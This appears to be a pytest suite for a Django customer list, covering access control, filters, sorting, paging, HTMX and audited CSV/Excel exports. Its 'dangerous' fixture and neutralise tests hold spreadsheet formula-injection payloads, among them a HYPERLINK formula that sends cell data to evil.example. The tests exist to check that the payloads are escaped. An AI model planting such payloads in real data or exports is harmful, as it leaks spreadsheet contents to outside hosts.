"""The customer list: who sees what, filters, search, sorting, pages, HTMX and exports."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.http import HttpResponseBase
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from fenji.web.accounts.models import AuditEntry
from fenji.web.customers.export import neutralise
from fenji.web.customers.models import BusinessLine, Customer
from fenji.web.customers.selectors import (
    CustomerFilters,
    customer_count,
    customer_list,
    parse_filters,
    published_gradings,
)
from fenji.web.evaluations.models import (
    EvaluationRun,
    Publication,
    RunCustomer,
    RunResult,
    RunStatus,
)
from fenji.web.facts.models import Interaction, Order
from fenji.web.policies.services import policy_publish_text

from ..runs_support import POLICY, POLICY_YAML
from ..ui_world import World

pytestmark = pytest.mark.django_db

URL = "/customers/"
#: Most queries a list page may make: session, user, role, team (managers), publications,
#: count, the page's ids, its rows, labels, revenue, follow-ups, and five filter choices.
MAX_QUERIES = 16


def listed(client: Client, query: str = "", **headers: str) -> tuple[list[str], int, Any]:
    """Ids of the listed page, the count, and the response."""
    response = client.get(URL + query, **headers)
    assert response.status_code == 200, response.content[:500]
    rows = response.context["rows"]
    return [r.customer.external_id for r in rows], response.context["page"].count, response


def published_run() -> EvaluationRun:
    return Publication.objects.select_related("run").get(policy__name=POLICY).run


def set_revenue(values: dict[str, Decimal | None], world: World) -> None:
    """Revenue rows of the published run: exactly ``values`` (customers left out have none)."""
    run = published_run()
    RunCustomer.objects.filter(run=run).delete()
    RunCustomer.objects.bulk_create(
        RunCustomer(run=run, customer=world.customers[cid], revenue=v) for cid, v in values.items()
    )


def add_customers(owner: str, prefix: str, n: int) -> list[Customer]:
    """``n`` customers of ``owner``, graded in the published run, with revenue and a follow-up."""
    run = published_run()
    customers = Customer.objects.bulk_create(
        Customer(
            external_id=f"{prefix}{i:03d}",
            name=f"加量客户{prefix}{i:03d}",
            owner=owner,
            industry="制造",
            region="上海",
            tags=["批量"] if i % 2 else [],
        )
        for i in range(n)
    )
    RunResult.objects.bulk_create(
        RunResult(run=run, customer=c, dimension=dim, label="BCD"[i % 3], source="computed")
        for i, c in enumerate(customers)
        for dim in ("value", "steady")
    )
    RunCustomer.objects.bulk_create(
        RunCustomer(run=run, customer=c, revenue=Decimal(i)) for i, c in enumerate(customers)
    )
    Interaction.objects.bulk_create(
        Interaction(customer=c, kind=Interaction.Kind.CALL, happened_on=date(2026, 2, 1))
        for c in customers
    )
    return customers


def content(response: HttpResponseBase) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)  # type: ignore[attr-defined]
    return response.content  # type: ignore[attr-defined, no-any-return]


def csv_rows(response: HttpResponseBase) -> list[list[str]]:
    body = content(response)
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response: HttpResponseBase) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(content(response)))
    return list(book.active.iter_rows(values_only=True))


# --- who may open it --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("login", "owners"),
    [
        ("admin", {"rep_a", "rep_a2", "rep_b"}),
        ("mgr_east", {"rep_a", "rep_a2"}),
        ("rep_a", {"rep_a"}),
        ("rep_a2", {"rep_a2"}),
        ("rep_b", {"rep_b"}),
    ],
)
def test_each_role_lists_exactly_its_customers(
    world: World, client_as: Callable[[str], Client], login: str, owners: set[str]
) -> None:
    ids, count, response = listed(client_as(login))
    expected = sorted(cid for o in owners for cid in world.ids_of(o))
    assert ids == expected
    assert count == len(expected)
    assert f'href="/customers/{expected[0]}/"' in response.content.decode()


def test_a_user_without_a_role_may_neither_list_nor_export(world: World) -> None:
    nobody = get_user_model().objects.create_user(username="nobody", password="x-pass-123")
    client = Client()
    client.force_login(nobody)
    assert client.get(URL).status_code == 403
    assert client.get(URL + "export.csv").status_code == 403
    assert not AuditEntry.objects.filter(action="customers.export").exists()


def test_anonymous_users_are_sent_to_log_in(world: World) -> None:
    for path in (URL, URL + "export.csv"):
        response = Client().get(path)
        assert response.status_code == 302
        assert response.headers["Location"].startswith("/login/")


def test_the_page_is_chinese_by_default(client_as: Callable[[str], Client]) -> None:
    _ids, _count, response = listed(client_as("rep_a"))
    html = response.content.decode()
    assert "客户" in html
    assert "导出" in html
    assert "评估日" in html


# --- no leaks ---------------------------------------------------------------------------------


@pytest.fixture
def rep_b_only(world: World) -> dict[str, str]:
    """Values only rep_b's customers have: a tag and a business line (industry, region, owner
    and the value label A are rep_b's alone in the world already)."""
    b2 = world.customers["B-2"]
    b2.tags = ["医院专供"]
    b2.save(update_fields=["tags"])
    pharma = BusinessLine.objects.create(code="pharma", name="医药线")
    Order.objects.create(
        external_id="B-2-pharma",
        customer=b2,
        business_line=pharma,
        order_date=date(2026, 2, 10),
        amount=Decimal(10),
    )
    return {"tag": "医院专供", "line": "pharma", "line_name": "医药线"}


LEAK_QUERIES = [
    "?owner=rep_b",
    "?label=value:A",
    "?industry=医药",
    "?region=北京",
    "?tag=医院专供",
    "?line=pharma",
    "?q=B-1",
    "?q=b-",
    "?q=北京医药客户B-1",
    "?q=医药",
]


@pytest.mark.parametrize("query", LEAK_QUERIES)
def test_rep_a_finds_nothing_of_rep_b_with_rep_b_filters(
    world: World, client_as: Callable[[str], Client], rep_b_only: dict[str, str], query: str
) -> None:
    assert world.customers["B-1"].name == "北京医药客户B-1"
    client = client_as("rep_a")
    ids, count, _response = listed(client, query)
    assert (ids, count) == ([], 0)
    fragment_ids, fragment_count, _r = listed(client, query, HTTP_HX_REQUEST="true")
    assert (fragment_ids, fragment_count) == ([], 0)
    rows = csv_rows(client.get(URL + "export.csv" + query))
    assert len(rows) == 1  # the header only
    assert not any(
        "B-" in cell
        for row in xlsx_rows(client.get(URL + "export.xlsx" + query))
        for cell in row
        if isinstance(cell, str)
    )
    # the same filters find rep_b's customers for rep_b: the filters themselves work
    assert listed(client_as("rep_b"), query)[1] > 0


def test_rep_a_dropdowns_hold_nothing_of_rep_b(
    world: World, client_as: Callable[[str], Client], rep_b_only: dict[str, str]
) -> None:
    _ids, _count, response = listed(client_as("rep_a"))
    choices = response.context["choices"]
    assert choices.owners == ["rep_a"]
    assert choices.industries == ["制造"]
    assert choices.regions == ["上海"]
    assert rep_b_only["tag"] not in choices.tags
    assert "pharma" not in [code for code, _ in choices.lines]
    html = response.content.decode()
    for secret in ("rep_b", "B-1", "医药", "北京", rep_b_only["tag"], rep_b_only["line_name"]):
        assert secret not in html
    # while rep_b is offered them
    b_choices = listed(client_as("rep_b"))[2].context["choices"]
    assert rep_b_only["tag"] in b_choices.tags
    assert "pharma" in [code for code, _ in b_choices.lines]


def test_rep_a_exports_only_rep_a_customers(
    world: World, client_as: Callable[[str], Client]
) -> None:
    rows = csv_rows(client_as("rep_a").get(URL + "export.csv"))
    assert [r[0] for r in rows[1:]] == world.ids_of("rep_a")


def test_the_manager_sees_the_team_and_not_the_other_team(
    world: World, client_as: Callable[[str], Client]
) -> None:
    client = client_as("mgr_east")
    team = sorted(world.ids_of("rep_a") + world.ids_of("rep_a2"))
    assert listed(client)[0] == team
    assert listed(client, "?owner=rep_b")[:2] == ([], 0)
    assert listed(client, "?owner=rep_a2")[0] == world.ids_of("rep_a2")
    choices = listed(client)[2].context["choices"]
    assert choices.owners == ["rep_a", "rep_a2"]
    assert [r[0] for r in csv_rows(client.get(URL + "export.csv"))[1:]] == team


# --- filters and search -----------------------------------------------------------------------


def test_search_matches_names_and_ids_case_insensitively(
    world: World, client_as: Callable[[str], Client]
) -> None:
    admin = client_as("admin")
    assert listed(admin, "?q=a-")[0] == ["A-1", "A-2", "A-3"]
    assert listed(admin, "?q=a2-2")[0] == ["A2-2"]
    assert listed(admin, "?q=杭州零售")[0] == ["A2-1", "A2-2"]
    assert listed(admin, "?q=-3")[0] == ["A-3", "B-3"]
    assert listed(admin, "?q=%25")[0] == []  # a literal %, not a wildcard


def test_each_filter_narrows_the_list(
    world: World, client_as: Callable[[str], Client], rep_b_only: dict[str, str]
) -> None:
    admin = client_as("admin")
    assert listed(admin, "?owner=rep_a2")[0] == ["A2-1", "A2-2"]
    assert listed(admin, "?industry=零售")[0] == ["A2-1", "A2-2"]
    assert listed(admin, "?region=上海")[0] == ["A-1", "A-2", "A-3"]
    assert listed(admin, "?tag=重点")[0] == ["A-1", "A2-1", "B-1"]
    assert listed(admin, "?tag=医院专供")[0] == ["B-2"]
    # the world's orders: customers 1 and 3 of each rep buy drinks, customer 2 dairy
    assert listed(admin, "?line=drinks")[0] == ["A-1", "A-3", "A2-1", "B-1", "B-3"]
    assert listed(admin, "?line=dairy")[0] == ["A-2", "A2-2", "B-2"]
    assert listed(admin, "?line=pharma")[0] == ["B-2"]
    assert listed(admin, "?region=上海&tag=重点")[0] == ["A-1"]


def test_the_label_filter_uses_the_published_run(
    world: World, client_as: Callable[[str], Client]
) -> None:
    run = published_run()
    for dim, label in (("value", "B"), ("steady", "A"), ("value", "D")):
        expected = sorted(
            RunResult.objects.filter(run=run, dimension=dim, label=label).values_list(
                "customer__external_id", flat=True
            )
        )
        assert expected, (dim, label)
        assert listed(client_as("admin"), f"?label={dim}:{label}")[0] == expected
    # an older run's labels do not count
    older = world.runs[0]
    assert older.pk != run.pk
    jan_a = set(
        RunResult.objects.filter(run=older, dimension="value", label="A").values_list(
            "customer__external_id", flat=True
        )
    )
    feb_a = set(listed(client_as("admin"), "?label=value:A")[0])
    assert jan_a != feb_a


def test_bad_input_gets_a_message_not_an_error(client_as: Callable[[str], Client]) -> None:
    client = client_as("rep_a")
    for query in (
        "?label=value:Z",
        "?label=nonsense",
        "?sort=salary",
        "?sort=label:nothing",
        "?policy=nothing",
        "?page=-4",
        "?page=abc",
        "?q=" + "x" * 500,
    ):
        response = client.get(URL + query)
        assert response.status_code == 200, query
    _ids, _count, response = listed(client, "?label=value:Z&sort=salary&policy=nothing")
    errors = response.context["errors"]
    assert len(errors) == 3
    assert any("nothing" in e for e in errors)
    assert listed(client, "?sort=salary")[0] == ["A-1", "A-2", "A-3"]
    assert len(response.context["filters"].q) <= 100


# --- sorting ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sort", "key"),
    [
        ("id", lambda c: c.external_id),
        ("name", lambda c: (c.name, c.external_id)),
        ("owner", lambda c: (c.owner, c.external_id)),
        ("industry", lambda c: (c.industry, c.external_id)),
        ("region", lambda c: (c.region, c.external_id)),
    ],
)
def test_sorting_by_customer_columns_both_ways(
    world: World, client_as: Callable[[str], Client], sort: str, key: Any
) -> None:
    customers = list(world.customers.values())
    up = [c.external_id for c in sorted(customers, key=key)]
    assert listed(client_as("admin"), f"?sort={sort}")[0] == up
    assert listed(client_as("admin"), f"?sort=-{sort}")[0] == up[::-1]


def test_sorting_by_revenue_puts_customers_without_revenue_last(
    world: World, client_as: Callable[[str], Client]
) -> None:
    set_revenue(
        {
            "A-1": Decimal("500.5"),
            "A-2": Decimal("12000"),
            "A-3": Decimal("500.5"),
            "A2-1": Decimal("-20"),
            "A2-2": None,
        },
        world,
    )
    admin = client_as("admin")
    # ties by id; no revenue (A2-2, and B-* without a row) last either way
    assert listed(admin, "?sort=-revenue")[0] == [
        "A-2",
        "A-3",
        "A-1",
        "A2-1",
        "B-3",
        "B-2",
        "B-1",
        "A2-2",
    ]
    assert listed(admin, "?sort=revenue")[0] == [
        "A2-1",
        "A-1",
        "A-3",
        "A-2",
        "A2-2",
        "B-1",
        "B-2",
        "B-3",
    ]


def test_sorting_by_label_follows_the_policy_tier_order(
    world: World, client_as: Callable[[str], Client]
) -> None:
    run = published_run()
    order = ["A", "B", "C", "D"]
    labels = dict(
        RunResult.objects.filter(run=run, dimension="value").values_list(
            "customer__external_id", "label"
        )
    )
    # a customer the run did not grade sorts last
    Customer.objects.create(external_id="A-9", name="未评估", owner="rep_a")
    best_first = sorted(labels, key=lambda cid: (order.index(labels[cid]), cid))
    admin = client_as("admin")
    assert listed(admin, "?sort=label:value")[0] == [*best_first, "A-9"]
    worst_first = sorted(labels, key=lambda cid: (order.index(labels[cid]), cid), reverse=True)
    assert listed(admin, "?sort=-label:value")[0] == [*worst_first, "A-9"]


def test_sort_links_turn_the_order_around_and_keep_the_filters(
    client_as: Callable[[str], Client],
) -> None:
    _ids, _count, response = listed(client_as("rep_a"), "?sort=name&tag=重点")
    columns = {c.title: c for c in response.context["columns"]}
    assert columns["名称"].state == "asc"
    assert "sort=-name" in columns["名称"].query
    assert "tag=" in columns["名称"].query
    assert "sort=-revenue" in columns["收入（万元）"].query
    assert "sort=label%3Avalue" in columns["价值等级"].query


# --- what a row shows -------------------------------------------------------------------------


def test_rows_show_labels_with_their_source_revenue_and_last_follow_up(
    world: World, client_as: Callable[[str], Client]
) -> None:
    run = published_run()
    RunResult.objects.filter(run=run, customer=world.customers["A-2"], dimension="value").update(
        label="A", source="override"
    )
    set_revenue({"A-1": Decimal("123456")}, world)
    Interaction.objects.create(
        customer=world.customers["A-1"], kind="call", happened_on=date(2026, 3, 5)
    )
    _ids, _count, response = listed(client_as("rep_a"))
    rows = {r.customer.external_id: r for r in response.context["rows"]}
    a1, a2 = rows["A-1"], rows["A-2"]
    expected = RunResult.objects.get(run=run, customer=world.customers["A-1"], dimension="steady")
    assert [c.label for c in a1.labels[1]] == [expected.label]
    assert a1.labels[1][0].source == expected.source
    assert (a2.labels[0][0].label, a2.labels[0][0].rank, a2.labels[0][0].source) == (
        "A",
        0,
        "override",
    )
    assert a1.revenue == Decimal("123456")
    assert a2.revenue is None
    assert a1.last_follow_up == date(2026, 3, 5)
    html = response.content.decode()
    assert "badge-override" in html
    assert "12.35" in html  # 123,456 yuan in 万元


def test_revenue_is_that_of_the_published_run_as_the_run_wrote_it(
    world: World, client_as: Callable[[str], Client]
) -> None:
    # the policy's revenue is the month's sales: February for the published run
    _ids, _count, response = listed(client_as("mgr_east"), "?sort=-revenue")
    revenue = {r.customer.external_id: r.revenue for r in response.context["rows"]}
    assert revenue == {
        "A-1": Decimal(600),
        "A-2": Decimal(600),
        "A-3": Decimal(300),
        "A2-1": Decimal(700),
        "A2-2": Decimal(150),
    }
    assert list(revenue)[:3] == ["A2-1", "A-2", "A-1"]


def test_without_a_published_policy_the_list_still_works(
    world: World, client_as: Callable[[str], Client]
) -> None:
    Publication.objects.all().delete()
    ids, count, response = listed(client_as("rep_a"), "?sort=-revenue&label=value:A")
    assert (ids, count) == (world.ids_of("rep_a"), 3)
    assert response.context["filters"].grading is None
    assert len(response.context["errors"]) == 2
    rows = csv_rows(client_as("rep_a").get(URL + "export.csv"))
    assert len(rows[0]) == 7  # no label or revenue columns


def test_a_policy_graded_per_line_shows_each_line_and_narrows_by_line(
    world: World, client_as: Callable[[str], Client]
) -> None:
    # given a policy graded per customer and line, with one hand-made published run
    text = POLICY_YAML.replace("name: runs_test", "name: a_per_line").replace(
        "title: {zh: 运行测试", "grain: customer_line\ntitle: {zh: 分线测试"
    )
    version = policy_publish_text(yaml_text=text)
    run = EvaluationRun.objects.create(
        policy=version.policy,
        policy_version=version,
        as_of=date(2026, 2, 28),
        status=RunStatus.PUBLISHED,
    )
    Publication.objects.create(policy=version.policy, run=run)
    dairy, drinks = BusinessLine.objects.filter(code__in=["dairy", "drinks"]).order_by("code")
    a1, a2, a3 = (world.customers[x] for x in ("A-1", "A-2", "A-3"))
    rows = [(a1, dairy, "D", 10), (a1, drinks, "B", 600), (a2, dairy, "C", 200)]
    rows += [(a2, drinks, "A", 50), (a3, drinks, "A", 2000)]
    RunResult.objects.bulk_create(
        RunResult(run=run, customer=c, business_line=line, dimension="value", label=label)
        for c, line, label, _ in rows
    )
    RunCustomer.objects.bulk_create(
        RunCustomer(run=run, customer=c, business_line=line, revenue=Decimal(v))
        for c, line, _, v in rows
    )
    client = client_as("rep_a")
    # when listed (the per-line policy sorts first by name, so it is the default)
    ids, _count, response = listed(client, "?sort=label:value")
    # then a customer ranks by its best line, shows every line, and sums its revenue
    assert response.context["filters"].grading.policy == "a_per_line"
    assert ids == ["A-2", "A-3", "A-1"]
    by_id = {r.customer.external_id: r for r in response.context["rows"]}
    assert [(c.line, c.label) for c in by_id["A-1"].labels[0]] == [("dairy", "D"), ("drinks", "B")]
    assert by_id["A-1"].revenue == Decimal(610)
    # a line narrows the labels, the revenue and the label filter to that line
    ids, _count, response = listed(client, "?line=dairy&sort=-revenue")
    assert ids == ["A-2"]  # A-2 alone of rep_a's customers has dairy orders
    assert response.context["rows"][0].revenue == Decimal(200)
    assert listed(client, "?label=value:A")[0] == ["A-2", "A-3"]
    assert listed(client, "?label=value:C&line=dairy")[0] == ["A-2"]
    assert listed(client, "?label=value:A&line=dairy")[0] == []  # A-2's A is in drinks
    export = csv_rows(client.get(URL + "export.csv?sort=id"))
    assert export[1][6] == "dairy: D; drinks: B"


# --- pages and queries ------------------------------------------------------------------------


def test_pages_of_fifty_with_the_right_counts(
    world: World, client_as: Callable[[str], Client]
) -> None:
    add_customers("rep_a", "A-P", 120)  # rep_a now has 123 customers
    client = client_as("rep_a")
    first, count, response = listed(client)
    assert count == 123
    assert len(first) == 50
    page = response.context["page"]
    assert (page.start, page.end, page.has_previous, page.has_next) == (1, 50, False, True)
    second = listed(client, "?page=2")[0]
    third, _count, response = listed(client, "?page=3")
    assert len(second) == 50
    assert len(third) == 23
    page = response.context["page"]
    assert (page.start, page.end, page.has_next) == (101, 123, False)
    everything = first + second + third
    assert everything == sorted(everything)
    assert len(set(everything)) == 123
    assert listed(client, "?page=99")[0] == third  # past the end: the last page
    assert listed(client, "?page=0")[0] == first


def test_the_pages_of_a_sort_neither_repeat_nor_skip(
    world: World, client_as: Callable[[str], Client]
) -> None:
    add_customers("rep_a", "A-P", 120)  # many equal labels and names: ties decide the pages
    client = client_as("rep_a")
    for sort in ("label:value", "-label:value", "-revenue", "industry", "-owner"):
        seen = [cid for n in (1, 2, 3) for cid in listed(client, f"?sort={sort}&page={n}")[0]]
        assert len(seen) == len(set(seen)) == 123, sort


def queries_of(client: Client, query: str, **headers: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(URL + query, **headers).status_code == 200
    return len(captured)


@pytest.mark.parametrize("login", ["admin", "mgr_east", "rep_a"])
@pytest.mark.parametrize(
    "query", ["", "?sort=-revenue", "?sort=label:steady&label=value:B&tag=批量&q=客户"]
)
def test_the_number_of_queries_is_pinned_and_does_not_grow_with_rows(
    world: World,
    client_as: Callable[[str], Client],
    django_assert_max_num_queries: Any,
    login: str,
    query: str,
) -> None:
    # given a few customers that every query here lists (a page without rows reads less)
    add_customers("rep_a", "A-S", 4)
    client = client_as(login)
    with django_assert_max_num_queries(MAX_QUERIES):
        small = queries_of(client, query)
    # when the customers grow past a page, then the queries stay the same
    add_customers("rep_a", "A-P", 120)
    add_customers("rep_a2", "A2-P", 30)
    assert queries_of(client, query) == small
    assert queries_of(client, query, HTTP_HX_REQUEST="true") < small


def test_the_list_counts_without_the_joins_of_its_sort(world: World) -> None:
    gradings = published_gradings()
    filters, errors = parse_filters(params={"sort": "-label:value"}, gradings=gradings)
    assert errors == []
    user = world.users["mgr_east"]
    assert (
        customer_count(user=user, filters=filters)
        == customer_list(user=user, filters=filters).count()
        == 5
    )
    assert customer_count(user=user, filters=CustomerFilters(q="A2")) == 2


# --- HTMX -------------------------------------------------------------------------------------


def test_an_htmx_request_gets_the_results_only(client_as: Callable[[str], Client]) -> None:
    client = client_as("rep_a")
    response = client.get(URL + "?tag=重点", HTTP_HX_REQUEST="true")
    html = response.content.decode()
    assert "<html" not in html
    assert 'id="f-q"' not in html
    assert 'data-testid="customer-table"' in html
    assert 'hx-swap-oob="true"' in html  # the label choices follow the chosen policy
    assert "HX-Request" in response.headers["Vary"]
    assert [r.customer.external_id for r in response.context["rows"]] == ["A-1"]
    # the whole page, with the form that asks for these fragments
    page = client.get(URL + "?tag=重点").content.decode()
    assert "<html" in page
    assert 'hx-get="/customers/"' in page
    assert 'hx-target="#customer-results"' in page
    assert 'hx-push-url="true"' in page
    # a history restore needs the whole page
    restore = client.get(URL, HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true")
    assert "<html" in restore.content.decode()


def test_the_page_has_no_inline_script_or_style(client_as: Callable[[str], Client]) -> None:
    html = listed(client_as("admin"))[2].content.decode()
    assert "<script>" not in html
    assert "style=" not in html
    assert "hx-on" not in html
    assert "onclick" not in html


# --- exports ----------------------------------------------------------------------------------


def test_the_csv_export_has_every_filtered_row_in_list_order(
    world: World, client_as: Callable[[str], Client]
) -> None:
    add_customers("rep_a", "A-P", 120)
    client = client_as("rep_a")
    response = client.get(URL + "export.csv?sort=-name&q=加量")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0][0] == "客户编号"
    assert "名称" in rows[0]
    assert "标记" in rows[0]
    ids = [r[0] for r in rows[1:]]
    assert len(ids) == 120
    assert ids == sorted(ids, reverse=True)


def test_the_export_is_audited_with_filters_and_row_count(
    world: World, client_as: Callable[[str], Client]
) -> None:
    client = client_as("mgr_east")
    content(client.get(URL + "export.xlsx?region=杭州&sort=-name"))
    entry = AuditEntry.objects.get(action="customers.export")
    assert entry.actor == "mgr_east"
    assert entry.details["rows"] == 2
    assert entry.details["format"] == "xlsx"
    assert entry.details["filters"]["region"] == "杭州"
    assert entry.details["filters"]["sort"] == "-name"


@pytest.fixture
def dangerous(world: World) -> dict[str, str]:
    """rep_a's customers renamed to what a spreadsheet would run, with negative revenue."""
    names = {
        "A-1": '=HYPERLINK("http://evil.example/?x="&A1, "点我")',
        "A-2": "-1+2",
        "A-3": "@SUM(1+1)",
    }
    for cid, name in names.items():
        Customer.objects.filter(external_id=cid).update(name=name, tags=["+86", "\tx"])
    set_revenue({"A-1": Decimal("-5"), "A-2": Decimal("1234.5"), "A-3": None}, world)
    return names


def test_the_csv_export_neutralises_formulas_and_keeps_numbers(
    client_as: Callable[[str], Client], dangerous: dict[str, str]
) -> None:
    rows = csv_rows(client_as("rep_a").get(URL + "export.csv"))
    header, body = rows[0], {r[0]: r for r in rows[1:]}
    name, tags, revenue = header.index("名称"), header.index("标记"), header.index("收入（元）")
    for cid, original in dangerous.items():
        assert body[cid][name] == "'" + original
        assert body[cid][tags] == "'+86、\tx"
    assert body["A-1"][revenue] == "-5"
    assert body["A-2"][revenue] == "1234.5"
    assert body["A-3"][revenue] == ""
    assert body["A-1"][header.index("最近跟进")] == "2026-01-31"


def test_the_excel_export_neutralises_formulas_and_keeps_numeric_cells(
    client_as: Callable[[str], Client], dangerous: dict[str, str]
) -> None:
    response = client_as("rep_a").get(URL + "export.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(content(response)))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    name, revenue = header.index("名称") + 1, header.index("收入（元）") + 1
    by_id = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    assert set(by_id) == {"A-1", "A-2", "A-3"}
    for cid, original in dangerous.items():
        cell = sheet.cell(row=by_id[cid], column=name)
        assert cell.data_type == "s"
        assert cell.value == "'" + original
    minus = sheet.cell(row=by_id["A-1"], column=revenue)
    assert minus.data_type == "n"
    assert minus.value == -5
    assert sheet.cell(row=by_id["A-2"], column=revenue).value == pytest.approx(1234.5)
    assert sheet.cell(row=by_id["A-3"], column=revenue).value is None
    assert sheet.cell(row=by_id["A-1"], column=header.index("最近跟进") + 1).value.date() == date(
        2026, 1, 31
    )


def test_an_unknown_export_format_is_not_found(client_as: Callable[[str], Client]) -> None:
    assert client_as("rep_a").get(URL + "export.pdf").status_code == 404
    assert not AuditEntry.objects.filter(action="customers.export").exists()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+86 138", "'+86 138"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("上海客户", "上海客户"),
        ("A-1", "A-1"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_quotes_text_that_starts_like_a_formula(text: str, shown: str) -> None:
    assert neutralise(text) == shown
